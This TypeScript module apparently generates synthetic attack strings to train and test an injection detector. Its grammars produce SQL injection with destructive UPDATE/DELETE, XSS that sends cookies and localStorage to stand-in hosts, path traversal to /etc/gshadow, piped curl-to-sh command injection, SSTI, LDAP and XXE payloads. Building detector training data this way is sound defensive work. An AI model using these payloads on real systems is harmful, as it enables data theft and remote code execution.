/**
 * Attacks made from grammars of ours: enough to try and to test a training with, not to judge one. Names and words are
 * chosen so that no sentence is one of the rows that the project is tested with.
 * @module
 */
import type { Random } from "../../detectors/anomaly/random.ts";

/** Makes one attack. */
export type Grammar = (random: Random) => string;

const TABLES = ["ledger", "crew", "parcels", "patients", "wallets", "vault", "tenants", "seats"];
const COLUMNS = ["pin", "iban", "hashkey", "salary", "birthday", "secretword", "badge", "totals"];
const NAMES = ["mallory", "trent", "walter", "peggy", "olga", "ruth", "ivan", "heidi"];
const HOSTS = ["drop.example", "collector.example", "c2.invalid", "sink.example", "paste.invalid"];
const FILES = ["etc/gshadow", "root/.bash_history", "var/backups/ledger.sql", "srv/app/secrets.yml", "proc/self/maps"];
const TOOLS = ["tftp", "socat", "busybox", "openssl", "xxd", "awk", "perl"];
const BEFORE = ["", "blue lamp", "42", "river stones", "x9", "order 7"];
const ENDS = ["-- ", "--+", "#", "/*", "-- q", ";%00", ""];

const column: Grammar = (random) => random.pick(COLUMNS);
const table: Grammar = (random) => random.pick(TABLES);
const number: Grammar = (random) => String(2 + random.below(90));
const space: Grammar = (random) => random.pick([" ", " ", "  ", "\t", "/**/", "+", "\n"]);
const quote: Grammar = (random) => random.pick(["'", "'", '"', "')", "'))", '")']);

const comparison: Grammar = (random) =>
  random.pick([
    () => `${column(random)}${random.pick([" like ", "=", "<>", " regexp "])}'${random.pick(NAMES)}%'`,
    () => `length(${column(random)})>${number(random)}`,
    () => `${column(random)} is not null`,
    () => `ascii(substr(${column(random)},${number(random)},1))>${number(random)}`,
    () => `exists(select ${column(random)} from ${table(random)})`,
    () => `'${random.pick(NAMES)}'='${random.pick(NAMES)}'||'${random.pick(NAMES)}'`,
  ])();

function sentence(random: Random, words: readonly string[]): string {
  return words.map((word) => random.chance(0.3) ? word.toUpperCase() : word).join(space(random));
}

const sqli: Grammar = (random) => {
  const head = `${random.pick(BEFORE)}${quote(random)}`;
  const end = random.pick(ENDS);
  const list = Array.from({ length: 1 + random.below(4) }, () => column(random)).join(",");
  return random.pick([
    () =>
      `${head}${space(random)}${
        sentence(random, [random.pick(["or", "and", "||", "having"]), comparison(random)])
      }${end}`,
    () =>
      `${head} ${
        sentence(random, ["union", random.pick(["all", "distinct", ""]), "select", list, "from", table(random)])
      }${end}`,
    () => `${head};${sentence(random, ["update", table(random), "set", `${column(random)}=${number(random)}`])}${end}`,
    () => `${head};${sentence(random, ["delete", "from", table(random), "where", comparison(random)])}${end}`,
    () =>
      `${number(random)} ${sentence(random, ["and", `if(${comparison(random)},sleep(${number(random)}),0)`])}${end}`,
    () => `${number(random)}-(${sentence(random, ["select", `count(${column(random)})`, "from", table(random)])})`,
    () => `${head}||(${sentence(random, ["select", column(random), "from", table(random), "limit", "1"])})||'`,
    () => `${random.pick(NAMES)}${quote(random)} order by ${number(random)},${column(random)}${end}`,
  ])();
};

const script: Grammar = (random) =>
  random.pick([
    () => `fetch('//${random.pick(HOSTS)}/'+document.cookie)`,
    () => `top['al'+'ert'](${number(random)})`,
    () => `new Image().src='//${random.pick(HOSTS)}?${column(random)}='+localStorage.${column(random)}`,
    () => `import('//${random.pick(HOSTS)}/${random.pick(NAMES)}.js')`,
    () => `confirm(${number(random)})`,
    () => `document.body.innerHTML='${random.pick(NAMES)}'`,
  ])();

const xss: Grammar = (random) => {
  const gap = random.pick([" ", "/", "\n", "\t"]);
  const cased = (word: string): string => random.chance(0.3) ? word.toUpperCase() : word;
  const event = random.pick(["onwheel", "onpointerenter", "ontoggle", "onanimationend", "onfocusin", "onloadstart"]);
  return random.pick([
    () => `<${cased("script")}${gap}data-${random.pick(NAMES)}>${script(random)}</script>`,
    () =>
      `${random.pick(BEFORE)}"><${cased(random.pick(["video", "details", "marquee", "math", "audio"]))}${gap}${event}=${
        script(random)
      }>`,
    () => `"${gap}${event}="${script(random)}"${gap}x="`,
    () =>
      `<${random.pick(["a", "area", "form"])}${gap}${random.pick(["href", "action"])}="java&#115;cript:${
        script(random)
      }">`,
    () => `<svg${gap}id=${random.pick(NAMES)}><animate${gap}onbegin=${script(random)}>`,
    () => `';${script(random)};//${random.pick(NAMES)}`,
    () => `<iframe${gap}srcdoc="&lt;script&gt;${script(random)}&lt;/script&gt;">`,
  ])();
};

const traversal: Grammar = (random) => {
  const climb = random.pick(["../", "..\\", "..%2f", "....//", "%2e%2e/", "..%255c"]);
  const file = random.pick(FILES);
  return `${random.pick(["", "/", "img/", "theme="])}${climb.repeat(2 + random.below(6))}${file}${
    random.pick(["", "%00.png"])
  }`;
};

const rce: Grammar = (random) => {
  const tool = random.pick(TOOLS);
  const command = random.pick([
    `${tool} -h ${random.pick(HOSTS)} -p ${number(random)}`,
    `curl -s ${random.pick(HOSTS)}/${random.pick(NAMES)}|sh`,
    `cat$IFS/${random.pick(FILES)}`,
    `printenv|${tool}`,
    `nslookup \`hostname\`.${random.pick(HOSTS)}`,
  ]);
  const open = random.pick([";", "|", "&&", "||", "\n", "$(", "`"]);
  return `${random.pick(BEFORE)}${open}${command}${
    open === "$(" ? ")" : open === "`" ? "`" : random.pick(["", " #", ";"])
  }`;
};

const ssti: Grammar = (random) => {
  const [open, close] = random.pick([["{{", "}}"], ["${", "}"], ["<%=", "%>"], ["#{", "}"], ["{%", "%}"]] as const);
  const inner = random.pick([
    `${number(random)}*${number(random)}*'${random.pick(NAMES)}'`,
    `self.__class__.__base__.__subclasses__()[${number(random)}]`,
    `request.application.__globals__.${column(random)}`,
    `''.getClass().forName('java.lang.Runtime').${column(random)}()`,
    `config.items()|list|${column(random)}`,
  ]);
  return `${random.pick(BEFORE)}${open}${inner}${close}`;
};

const ldap: Grammar = (random) =>
  `${random.pick(["*", random.pick(NAMES)])})(${random.pick(["|(", "&(", ""])}${column(random)}=${
    random.pick(["*", `${random.pick(NAMES)}*`])
  })`;

const xml: Grammar = (random) =>
  `<!DOCTYPE ${random.pick(NAMES)} [<!ENTITY ${column(random)} SYSTEM "file:///${random.pick(FILES)}">]><${
    random.pick(TABLES)
  }>&${random.pick(COLUMNS)};</${random.pick(TABLES)}>`;

/** Class → how its attacks are made, and how often one is asked for. */
export const GRAMMARS: readonly { readonly name: string; readonly weight: number; readonly make: Grammar }[] = [
  { name: "sqli", weight: 8, make: sqli },
  { name: "xss", weight: 6, make: xss },
  { name: "traversal", weight: 2, make: traversal },
  { name: "rce", weight: 2, make: rce },
  { name: "ssti", weight: 1, make: ssti },
  { name: "ldap", weight: 1, make: ldap },
  { name: "xxe", weight: 1, make: xml },
];
